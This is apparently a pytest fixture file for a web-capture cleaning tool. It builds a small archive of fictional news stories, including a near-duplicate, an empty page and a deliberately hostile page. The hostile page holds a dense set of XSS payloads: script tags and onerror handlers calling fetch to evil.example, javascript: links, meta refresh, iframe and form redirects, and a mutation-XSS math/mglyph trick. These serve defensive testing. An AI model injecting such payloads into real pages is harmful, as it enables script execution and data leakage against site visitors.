"""A small run to look at: articles of markup and of text with chaff, a copy, an empty page, and a hostile page."""

from __future__ import annotations

import json

import pytest

from thresher.inspector.window import Window

STORY = [
    "The ferry to Orran will sail again from Monday, eleven weeks after its rudder was lost in the March storm.",
    "Harbour master Ida Morn said the new rudder, cast in Tersk from an old bell, had passed its trial on Thursday.",
    "Islanders had rowed their own post across the sound since the storm, in two boats that the school had built.",
    "The first crossing is free for everybody who rowed, and the council has ordered 212 buns for the landing.",
]
STEAMER = [
    "A steamer that lay on the bed of Lake Sund for ninety years was lifted on Sunday, with its funnel still upright.",
    "Divers had filled the hull with 4,000 table-tennis balls, an idea that their leader Per Aske read in a comic.",
    "In the saloon they found a piano, eleven chairs and a menu that offers perch in three ways and no dessert.",
    "The museum of the town will dry the wood for six winters before anybody may walk on the deck of it again.",
]
AIRSHIP = [
    "The airship that was to bring parcels to the mountain villages has been sold to a circus after one single flight.",
    "Its pilot, Runa Fell, had landed it on the roof of a dairy, where it stayed for nine days because of the wind.",
    "Cheese makers below complained of the shade, but sold twice as many wheels as ever to people who came to look.",
    "The circus wants to paint clouds on the envelope, so that nobody can see where the acrobats are hanging from.",
]
CHAFF = [
    "Share this:",
    "Click to share on Facebook (Opens in new window)",
    "Copyright 2025 Orran Gazette. All rights reserved.",
]
PARAGRAPHS = "".join(f"<p>{one}</p>" for one in STORY)
PAGE = f"""<!doctype html><html lang="en"><head><title>Ferry sails again - Orran Gazette</title></head><body>
<nav><ul><li><a href="/">Home</a></li><li><a href="/sport">Sport</a></li><li><a href="/boats">Boats</a></li></ul></nav>
<article><h1>Ferry sails again</h1><p>By Tove Lind</p>{PARAGRAPHS}
<p>Subscribe to our <b>free</b> newsletter and get the news of the island in your inbox every morning.</p></article>
<footer><p>Copyright 2025 Orran Gazette. All rights reserved.</p></footer></body></html>"""
HOSTILE = PAGE.replace(
    "<article>",
    """<article><script>parent.document.title = "owned"; fetch("http://evil.example/js")</script>
<img src="http://evil.example/a.png" onerror="fetch('http://evil.example/b')" alt="a &quot;boat&quot;">
<svg onload="alert(1)"><style>@import url(http://evil.example/c.css);</style><script>alert(2)</script></svg>
<style>body { background: url(http://evil.example/d.png) } p { display: none }</style>
<link rel="stylesheet" href="http://evil.example/e.css"><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/f">
<iframe src="http://evil.example/g" srcdoc="<script>alert(3)</script>"></iframe>
<object data="http://evil.example/h"></object><embed src="http://evil.example/i">
<form action="http://evil.example/j"><button formaction="http://evil.example/k">Go on</button></form>
<p style="position:fixed;inset:0" onclick="alert(4)" id="told">Text that would cover
<a href="javascript:alert(5)">all</a> \u202eof it.</p>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(6)&gt;"></table></mtext></math>
<p>&lt;script&gt;alert(7)&lt;/script&gt; is how a script begins,
says a page about pages that begins this way itself.</p>""",
).replace("Ferry sails again", "Hostile </title><script>alert(8)</script> ferry")
COPY = [STORY[0], *STORY[1:3], STORY[3].replace("212", "240")]
URLS = {name: f"https://gazette.example/2025/{name}" for name in ("ferry", "text", "copy", "empty", "hostile")}


@pytest.fixture(scope="session")
def archive(tmp_path_factory):
    """The captures of the run, as JSON lines."""
    text = "\n\n".join(["Skip to main content", "The steamer comes up", "By Tove Lind", *STEAMER, *CHAFF])
    hostile = HOSTILE
    for one, other in zip(STORY, AIRSHIP, strict=True):
        hostile = hostile.replace(one, other)
    when = "2025-06-02T08:00:00Z"
    rows = [
        {"url": URLS["ferry"], "html": PAGE, "captured_at": when},
        {"url": URLS["text"], "text": text, "captured_at": when},
        {"url": URLS["copy"], "text": "\n\n".join(["Ferry sails again", *COPY]), "captured_at": "2025-06-03T08:00:00Z"},
        {"url": URLS["empty"], "html": "<html><body></body></html>", "captured_at": when},
        {"url": URLS["hostile"], "html": hostile, "captured_at": when},
    ]
    file = tmp_path_factory.mktemp("captures") / "captures.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows))
    return file


@pytest.fixture(scope="session")
def made(archive, tmp_path_factory, run_thresher):
    """The output folder of the run."""
    out = tmp_path_factory.mktemp("run") / "out"
    done = run_thresher("clean", archive, "--out", out, "--quiet", "--workers", "1")
    assert done.returncode == 0, done.stderr
    return out


@pytest.fixture
def marks(tmp_path):
    """Where marks go."""
    return tmp_path / "marks"


@pytest.fixture(scope="session")
def opened_run(made, tmp_path_factory):
    """The run, opened once, because its rules take a second to load."""
    return Window(made, None, tmp_path_factory.mktemp("marks") / "none")


@pytest.fixture
def window(opened_run, marks):
    """The run, opened, with a folder for the marks of this test."""
    opened_run.marks = marks
    return opened_run


@pytest.fixture
def view_of(window):
    """The view of a capture of the run, by its name."""

    def find(name):
        return window.view(window.ready().number(URLS[name]))

    return find
